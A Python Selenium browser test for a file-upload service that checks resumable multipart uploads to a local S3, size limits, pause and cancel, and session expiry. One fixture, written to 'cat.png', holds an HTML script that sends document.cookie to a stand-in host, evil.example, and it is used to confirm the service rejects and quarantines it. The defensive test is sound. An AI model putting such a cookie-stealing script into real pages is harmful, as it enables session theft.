"""The upload page in a real browser: headless Chromium (Debian's chromium and chromium-driver), driven by Selenium,
against `upload-edge serve` with everything it starts.

    upload_page_test.py --upload-edge .build/debug/upload-edge [--screenshot PATH]

1. sign in as the dev user that serve prints;
2. upload a 40 MiB PNG in 8 parts, interrupted: with parts 4-8 held back in the browser (Chrome DevTools' Fetch
   domain), reload the page once parts 1-3 are in S3, choose the file again and see it resume (sending only parts
   4-8) and end validated, 40 MiB in S3 with its owner in the metadata;
3. upload a valid PNG and see it become validated;
4. upload HTML renamed .png and see it rejected, and quarantined in S3;
5. choose a file over the limit and see it refused before any upload, with the message shown;
6. pause, resume and cancel an upload in parts, and see it aborted in S3;
7. let the session expire and be sent back to sign-in.

Then Ctrl-C (SIGINT) to serve, which must stop everything it started. Exits non-zero on the first failure, with
the page's text and a screenshot for the failing step.
"""

import argparse
import os
import re
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import zlib

import boto3
import botocore.config
from selenium import webdriver
from selenium.common.exceptions import TimeoutException
from selenium.webdriver.chrome.service import Service
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

MIB = 1024 * 1024
MAX_BYTES = 50 * MIB
MULTIPART_THRESHOLD = 16 * MIB
PART_BYTES = 5 * MIB
BIG_BYTES = 40 * MIB
PORT = 8093
BUCKET = "upload-edge-local"
RESUME_PREFIX = "uploadedge.multipart."


def step(text):
    print(f"==> {text}", flush=True)


def png_chunk(kind, data):
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body) & 0xFFFFFFFF)


def png_bytes(width=16, height=16):
    """A real PNG: signature, IHDR, one IDAT of grey pixels, IEND."""
    rows = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(rows))
        + png_chunk(b"IEND", b"")
    )


def large_png_bytes(size, width=4096):
    """A real PNG of exactly `size` bytes: random grey rows stored (zlib level 0) in one huge IDAT, then a tEXt
    comment that pads it to the byte. No byte is "<", so no stretch of noise reads as markup to the validator."""
    fixed = 8 + (12 + 13) + 12 + 12 + (12 + len(b"Comment\x00"))  # signature, IHDR, IDAT, IEND, tEXt overheads
    # zlib level 0: 2 + 4 bytes around the data, 5 bytes per stored block of up to 65535 bytes.
    height = (size - fixed - 1024) * 65535 // (65540 * (width + 1))
    noise = os.urandom(height * width).translate(bytes(b if b != 0x3C else 0x3D for b in range(256)))
    rows = b"".join(b"\x00" + noise[row * width : (row + 1) * width] for row in range(height))
    idat = zlib.compress(rows, 0)
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    head = b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat)
    padding = size - len(head) - 12 - 12 - len(b"Comment\x00")
    if padding < 0:
        raise ValueError(f"cannot make a PNG of {size} bytes this way")
    data = head + png_chunk(b"tEXt", b"Comment\x00" + b"p" * padding) + png_chunk(b"IEND", b"")
    assert len(data) == size
    return data


class Failure(Exception):
    pass


def start_serve(binary):
    step("starting upload-edge serve (it installs what is missing on first use)")
    serve = subprocess.Popen(
        [
            binary,
            "serve",
            "--port",
            str(PORT),
            "--max-bytes",
            str(MAX_BYTES),
            "--multipart-threshold",
            str(MULTIPART_THRESHOLD),
            "--part-bytes",
            str(PART_BYTES),
        ],
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    details = {}
    deadline = time.time() + 900
    while time.time() < deadline:
        line = serve.stdout.readline()
        if not line:
            raise Failure(f"upload-edge serve exited with {serve.wait()} before it was ready")
        if match := re.match(r"\s+(http://127\.0\.0\.1:\d+/)\s*$", line):
            details["url"] = match.group(1)
        elif match := re.match(r"Sign in as:\s+(\S+)", line):
            details["username"] = match.group(1)
        elif match := re.match(r"Password:\s+(\S+)", line):
            details["password"] = match.group(1)
        elif line.startswith("Press Ctrl-C"):
            return serve, details
    raise Failure("upload-edge serve was not ready within 15 minutes")


SERVICE_PATTERN = "localstack.runtime.main|moto_server|/bootstrap$"


def processes():
    output = subprocess.run(["pgrep", "-f", SERVICE_PATTERN], capture_output=True, text=True).stdout
    return set(output.split())


def stop_serve(serve, before):
    step("stopping upload-edge serve with Ctrl-C (SIGINT)")
    os.kill(serve.pid, signal.SIGINT)
    try:
        status = serve.wait(timeout=120)
    except subprocess.TimeoutExpired:
        os.killpg(serve.pid, signal.SIGKILL)
        raise Failure("upload-edge serve did not stop within 2 minutes of SIGINT")
    if status != 0:
        raise Failure(f"upload-edge serve exited with {status} after SIGINT")
    # Nothing it started is left behind: no LocalStack, no moto, no bootstrap (services that were already running,
    # make test's, are serve's to use and not to stop).
    time.sleep(1)
    leftovers = processes() - before
    if leftovers:
        listing = subprocess.run(["ps", "-o", "pid,args", "-p", ",".join(leftovers)], capture_output=True, text=True)
        raise Failure(f"processes left behind after serve stopped:\n{listing.stdout}")


def browser():
    options = webdriver.ChromeOptions()
    options.binary_location = "/usr/bin/chromium"
    for argument in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--window-size=1100,1000"):
        options.add_argument(argument)
    return webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=options)


def row_for(driver, name):
    rows = driver.find_elements(By.CSS_SELECTOR, "#file-list li.file")
    for row in rows:
        if row.find_element(By.CSS_SELECTOR, ".file-name").text == name:
            return row
    return None


def wait_for_state(driver, name, states, seconds=60):
    def reached(driver):
        row = row_for(driver, name)
        return row if row is not None and row.get_attribute("data-state") in states else False

    try:
        return WebDriverWait(driver, seconds).until(reached)
    except TimeoutException:
        row = row_for(driver, name)
        seen = row.get_attribute("data-state") + ": " + row.text if row else "no row"
        raise Failure(f"{name} did not reach {states} within {seconds} s; it shows {seen!r}")


def choose_and_upload(driver, path):
    driver.find_element(By.ID, "files").send_keys(path)
    driver.find_element(By.ID, "upload-button").click()


def s3_client():
    return boto3.client(
        "s3",
        endpoint_url="http://127.0.0.1:4566",
        region_name="eu-west-1",
        aws_access_key_id="test",
        aws_secret_access_key="test",
        config=botocore.config.Config(s3={"addressing_style": "path"}),
    )


def hold_parts(driver, numbers):
    """Holds these parts' PUTs in the browser, never sent, as on a stalled network (Chrome DevTools' Fetch domain
    pauses matching requests until told to go on, which the test never does); everything else goes through."""
    patterns = []
    for number in numbers:
        patterns += [{"urlPattern": f"*partNumber={number}&*"}, {"urlPattern": f"*partNumber={number}"}]
    driver.execute_cdp_cmd("Fetch.enable", {"patterns": patterns})


def release_parts(driver):
    driver.execute_cdp_cmd("Fetch.disable", {})


def resume_entry(driver, name):
    """The page's localStorage entry for an upload in parts of this file name, or None."""
    return driver.execute_script(
        """
        for (const id of Object.keys(localStorage)) {
          if (!id.startsWith(arguments[1])) continue;
          const entry = JSON.parse(localStorage.getItem(id));
          if (entry && entry.name === arguments[0]) return entry;
        }
        return null;
        """,
        name,
        RESUME_PREFIX,
    )


def wait_for_entry(driver, name, seconds=30):
    try:
        return WebDriverWait(driver, seconds).until(lambda driver: resume_entry(driver, name))
    except TimeoutException:
        row = row_for(driver, name)
        raise Failure(f"no upload in parts began for {name} within {seconds} s; it shows {row.text if row else None!r}")


def stored_parts(s3, entry):
    """{part number: size} of what S3 holds for the upload."""
    answer = s3.list_parts(Bucket=BUCKET, Key=entry["key"], UploadId=entry["uploadId"])
    return {part["PartNumber"]: part["Size"] for part in answer.get("Parts", [])}


def wait_for_parts(s3, entry, numbers, seconds=60):
    deadline = time.time() + seconds
    parts = {}
    while time.time() < deadline:
        parts = stored_parts(s3, entry)
        if set(numbers) <= set(parts):
            return parts
        time.sleep(0.2)
    raise Failure(f"parts {sorted(numbers)} did not reach S3 within {seconds} s; it holds {sorted(parts)}")


def upload_exists(s3, entry):
    answer = s3.list_multipart_uploads(Bucket=BUCKET, Prefix=entry["key"])
    return any(upload["UploadId"] == entry["uploadId"] for upload in answer.get("Uploads", []))


def click(row, name):
    button = row.find_element(By.CSS_SELECTOR, f"button.{name}")
    if not button.is_displayed():
        raise Failure(f"{row.find_element(By.CSS_SELECTOR, '.file-name').text} has no {name} button: {row.text!r}")
    button.click()


def sign_in(driver, wait, details):
    driver.get(details["url"])
    wait.until(ec.visibility_of_element_located((By.ID, "username")))
    driver.find_element(By.ID, "username").send_keys(details["username"])
    driver.find_element(By.ID, "password").send_keys(details["password"])
    driver.find_element(By.ID, "sign-in-button").click()
    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))


def resumes_after_reload(driver, wait, s3, path):
    """Step 2: 8 parts; 1-3 land, 4-8 are held; reload; the same file again sends only 4-8 and is validated."""
    name = os.path.basename(path)
    hold_parts(driver, range(4, 9))
    choose_and_upload(driver, path)
    entry = wait_for_entry(driver, name)
    if entry["partCount"] != 8 or entry["partSize"] != PART_BYTES:
        raise Failure(f"a 40 MiB file should go up in 8 parts of 5 MiB: {entry}")
    wait_for_parts(s3, entry, [1, 2, 3])
    driver.refresh()
    release_parts(driver)
    wait.until(ec.visibility_of_element_located((By.ID, "upload-section")))
    before = stored_parts(s3, entry)
    if sorted(before) != [1, 2, 3] or any(size != PART_BYTES for size in before.values()):
        raise Failure(f"before resuming, S3 should hold parts 1-3 of 5 MiB: {before}")
    unfinished = driver.find_element(By.ID, "unfinished")
    if not unfinished.is_displayed() or name not in unfinished.text:
        raise Failure(f"after the reload the page does not list {name} as unfinished: {unfinished.text!r}")

    choose_and_upload(driver, path)
    row = wait_for_state(driver, name, {"validated"}, seconds=90)
    resumed, sent = row.get_attribute("data-parts-resumed"), row.get_attribute("data-parts-sent")
    if (resumed, sent) != ("3", "5"):
        raise Failure(f"the resumed upload should find 3 parts stored and send 5; it found {resumed} and sent {sent}")
    bar = row.find_element(By.TAG_NAME, "progress")
    if bar.get_attribute("value") != bar.get_attribute("max"):
        raise Failure(f"the progress bar of a finished upload is not full: {bar.get_attribute('value')}")
    head = s3.head_object(Bucket=BUCKET, Key=entry["key"])
    if head["ContentLength"] != BIG_BYTES:
        raise Failure(f"the object in S3 is {head['ContentLength']} bytes, not {BIG_BYTES}")
    if not head["Metadata"].get("owner"):
        raise Failure(f"the object in S3 has no owner in its metadata: {head['Metadata']}")
    if upload_exists(s3, entry):
        raise Failure("the completed upload is still listed as in progress in S3")
    if resume_entry(driver, name) is not None:
        raise Failure("the page still keeps the finished upload in localStorage")


def save_screenshot(driver, path):
    """The whole page, not just the window: the viewport made as tall as the page for the moment of the shot."""
    width = driver.execute_script("return window.innerWidth")
    height = driver.execute_script("return document.documentElement.scrollHeight")
    metrics = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}
    driver.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", metrics)
    try:
        driver.save_screenshot(path)
    finally:
        driver.execute_cdp_cmd("Emulation.clearDeviceMetricsOverride", {})
    step(f"screenshot: {path}")


def pauses_resumes_and_cancels(driver, s3, path, screenshot):
    """Step 6: 4 parts, 2-4 held: pause once part 1 is in, resume, then cancel: S3 no longer has the upload."""
    name = os.path.basename(path)
    hold_parts(driver, range(2, 5))
    try:
        choose_and_upload(driver, path)
        entry = wait_for_entry(driver, name)
        wait_for_parts(s3, entry, [1])
        row = wait_for_state(driver, name, {"uploading"}, seconds=10)
        click(row, "pause")
        row = wait_for_state(driver, name, {"paused"}, seconds=10)
        if "Paused: 1 of 4 parts stored" not in row.text or "Resume" not in row.text:
            raise Failure(f"a paused upload does not say so or offer to resume: {row.text!r}")
        if screenshot:
            save_screenshot(driver, screenshot)
        click(row, "resume")
        row = wait_for_state(driver, name, {"resuming", "uploading"}, seconds=10)
        click(row, "cancel")
        row = wait_for_state(driver, name, {"cancelled"}, seconds=20)
        if upload_exists(s3, entry):
            raise Failure("the cancelled upload was not aborted in S3")
        if resume_entry(driver, name) is not None:
            raise Failure("the page still keeps the cancelled upload in localStorage")
    finally:
        release_parts(driver)


def run(binary, screenshot):
    workdir = tempfile.mkdtemp(prefix="ue-browser-")
    good = os.path.join(workdir, "holiday.png")
    evil = os.path.join(workdir, "cat.png")
    large = os.path.join(workdir, "poster.png")
    big = os.path.join(workdir, "big.png")
    medium = os.path.join(workdir, "banner.png")
    with open(good, "wb") as f:
        f.write(png_bytes())
    with open(evil, "wb") as f:
        f.write(b"<!doctype html><html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>")
    with open(large, "wb") as f:
        f.write(png_bytes())
        f.truncate(MAX_BYTES + 10 * MIB)  # sparse: it is refused before any byte is read
    with open(big, "wb") as f:
        f.write(large_png_bytes(BIG_BYTES))
    with open(medium, "wb") as f:
        f.write(large_png_bytes(MULTIPART_THRESHOLD + MIB))

    before = processes()
    serve, details = start_serve(binary)
    driver = None
    try:
        driver = browser()
        wait = WebDriverWait(driver, 30)
        s3 = s3_client()

        step("1. signing in")
        sign_in(driver, wait, details)
        limits = driver.find_element(By.ID, "limits").text
        if "50.0 MB" not in limits:
            raise Failure(f"the page does not show the advertised limit: {limits!r}")

        step("2. a 40 MiB PNG goes up in 8 parts, survives a reload mid-way, resumes and becomes validated")
        resumes_after_reload(driver, wait, s3, big)

        step("3. a valid PNG becomes validated")
        choose_and_upload(driver, good)
        row = wait_for_state(driver, "holiday.png", {"validated"})
        bar = row.find_element(By.TAG_NAME, "progress")
        if bar.get_attribute("value") != bar.get_attribute("max"):
            raise Failure("the progress bar of a finished upload is not full")

        step("4. HTML renamed .png is rejected and quarantined")
        choose_and_upload(driver, evil)
        row = wait_for_state(driver, "cat.png", {"rejected"})
        if "markup or script" not in row.text:
            raise Failure(f"the rejection does not say why: {row.text!r}")
        keys = [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
        if not any(key.startswith("quarantine/") and key.endswith("/cat.png") for key in keys):
            raise Failure(f"cat.png is not in quarantine/: {keys}")
        if any(key.startswith("uploads/") and key.endswith("/cat.png") for key in keys):
            raise Failure(f"cat.png is still under uploads/: {keys}")

        step("5. a file over the limit is refused before any upload")
        choose_and_upload(driver, large)
        row = wait_for_state(driver, "poster.png", {"refused"}, seconds=10)
        if "Too large: 60.0 MB" not in row.text or "limit is 50.0 MB" not in row.text:
            raise Failure(f"the refusal does not say what to fix: {row.text!r}")
        keys = [item["Key"] for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", [])]
        if any(key.endswith("/poster.png") for key in keys):
            raise Failure("the refused file reached S3")

        step("6. an upload in parts can be paused, resumed and cancelled, which aborts it in S3")
        pauses_resumes_and_cancels(driver, s3, medium, screenshot)

        step("7. an expired session sends you back to sign-in")
        expired = driver.execute_script(
            """
            const b64 = (o) => btoa(JSON.stringify(o)).replace(/=+$/, '').replace(/\\+/g, '-').replace(/\\//g, '_');
            const token = sessionStorage.getItem('uploadedge.idToken');
            const claims = JSON.parse(atob(token.split('.')[1].replace(/-/g, '+').replace(/_/g, '/')));
            claims.exp = Math.floor(Date.now() / 1000) - 60;
            sessionStorage.setItem('uploadedge.idToken', token.split('.')[0] + '.' + b64(claims) + '.' + token.split('.')[2]);
            return claims.exp;
            """
        )
        if not expired:
            raise Failure("could not age the session token")
        choose_and_upload(driver, good)
        wait.until(ec.visibility_of_element_located((By.ID, "sign-in-section")))
        notice = driver.find_element(By.ID, "notice").text
        if "session has expired" not in notice:
            raise Failure(f"the sign-in page does not say the session expired: {notice!r}")
        # The API refuses an expired token too, whatever the page thinks.
        status = driver.execute_script(
            "const r = await fetch('/api/uploads', {headers: {Authorization: 'Bearer ' + arguments[0]}});"
            " return r.status;",
            "eyJhbGciOiJSUzI1NiJ9.eyJleHAiOjF9.c2ln",
        )
        if status != 401:
            raise Failure(f"the API answered {status}, not 401, to a bad token")
        step("all seven steps passed")
        shutil.rmtree(workdir, ignore_errors=True)
    except Exception:
        if driver is not None:
            path = os.path.join(workdir, "failure.png")
            driver.save_screenshot(path)
            print(f"page text at failure:\n{driver.find_element(By.TAG_NAME, 'body').text}\nscreenshot: {path}")
        raise
    finally:
        if driver is not None:
            driver.quit()
        stop_serve(serve, before)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--upload-edge", required=True)
    parser.add_argument("--screenshot")
    args = parser.parse_args()
    try:
        run(os.path.abspath(args.upload_edge), args.screenshot)
    except Failure as failure:
        print(f"FAILED: {failure}", file=sys.stderr)
        sys.exit(1)


if __name__ == "__main__":
    main()
